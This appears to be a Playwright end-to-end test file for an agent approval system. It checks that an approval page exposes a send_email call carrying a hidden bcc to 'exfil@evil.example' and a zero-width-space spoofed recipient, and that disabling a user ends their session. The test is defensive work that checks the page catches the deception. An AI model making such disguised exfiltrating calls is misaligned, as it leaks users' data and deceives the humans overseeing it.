// The security promises as a person meets them in Chromium: pages hydrate under the
// nonce Content-Security-Policy with no violation, the approval page puts the arguments
// first and calls out what the agent's description hides, and disabling a user ends the
// session they have open.
import { expect, test } from '@playwright/test';
import fs from 'node:fs';
import { dataDir } from '../playwright.config';
import { ALICE, failOnConsoleErrors, signIn, waitForHydration } from './helpers';

const auth = () => ({ Authorization: `Bearer ${fs.readFileSync(`${dataDir}/token`, 'utf8').trim()}` });

test('the approval page shows what runs first and what the description hides', async ({ page, request }) => {
  const errors = failOnConsoleErrors(page);
  const response = await request.post('/api/v1/approvals', {
    headers: auth(),
    data: {
      run_id: `run-e2e-hidden-${Date.now()}`,
      tool: 'send_email',
      arguments: { to: 'ana@example.com', subject: 'Invoice', body: 'Attached.', bcc: 'exfil@evil.example' },
      display: [
        { label: 'To', value: 'ana@exam\u200Bple.com' },
        { label: 'Subject', value: 'Invoice' },
        { label: 'Body', value: 'Attached.' },
      ],
    },
  });
  expect(response.status()).toBe(201);
  const created = await response.json();

  await signIn(page, ALICE);
  const loaded = await page.goto(`/approvals/${created.id}`);
  const csp = loaded?.headers()['content-security-policy'] ?? '';
  expect(csp).toContain("frame-ancestors 'none'");
  expect(csp).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9_-]+'/);
  await waitForHydration(page);

  const payload = page.getByTestId('payload');
  const description = page.getByTestId('agent-description');
  await expect(payload.getByRole('heading', { name: 'Exactly what will run' })).toBeVisible();
  const payloadBox = await payload.boundingBox();
  const descriptionBox = await description.boundingBox();
  expect(payloadBox!.y).toBeLessThan(descriptionBox!.y);
  const warnings = page.getByTestId('display-warnings');
  await expect(warnings.getByTestId('unshown-arguments')).toContainText('bcc: exfil@evil.example');
  await expect(warnings.getByTestId('differing-values')).toContainText('[U+200B]');
  // Hydrated under the policy: the decision still works, with no violation logged.
  await page.getByLabel(/required to deny/).fill('a hidden bcc');
  await page.getByRole('button', { name: 'Deny' }).click();
  await expect(page.getByTestId('outcome')).toContainText('Denied by alice');
  await expect(page.getByRole('heading', { name: 'The payload this decision is bound to' })).toBeVisible();
  expect(errors).toEqual([]);
});

test('disabling a user ends the session they have open', async ({ browser }) => {
  const name = `dana-${Date.now()}`;
  const adminContext = await browser.newContext();
  const admin = await adminContext.newPage();
  const errors = failOnConsoleErrors(admin);
  await signIn(admin, ALICE);
  await admin.goto('/admin/users');
  await waitForHydration(admin);
  await admin.getByTestId('create-user').getByLabel('Username').fill(name);
  await admin.getByTestId('create-user').getByRole('button', { name: 'Add user' }).click();
  const secret = admin.getByTestId('one-time-secret');
  await expect(secret).toBeVisible();
  const password = (await secret.locator('code').innerText()).trim();

  const userContext = await browser.newContext();
  const user = await userContext.newPage();
  await signIn(user, { username: name, password });

  const row = admin.getByTestId(`user-${name}`);
  await row.getByRole('button', { name: 'Disable' }).click();
  await expect(row).toContainText('disabled');
  await user.goto('/runs');
  await expect(user).toHaveURL(/\/login/);
  expect(errors).toEqual([]);
  await adminContext.close();
  await userContext.close();
});
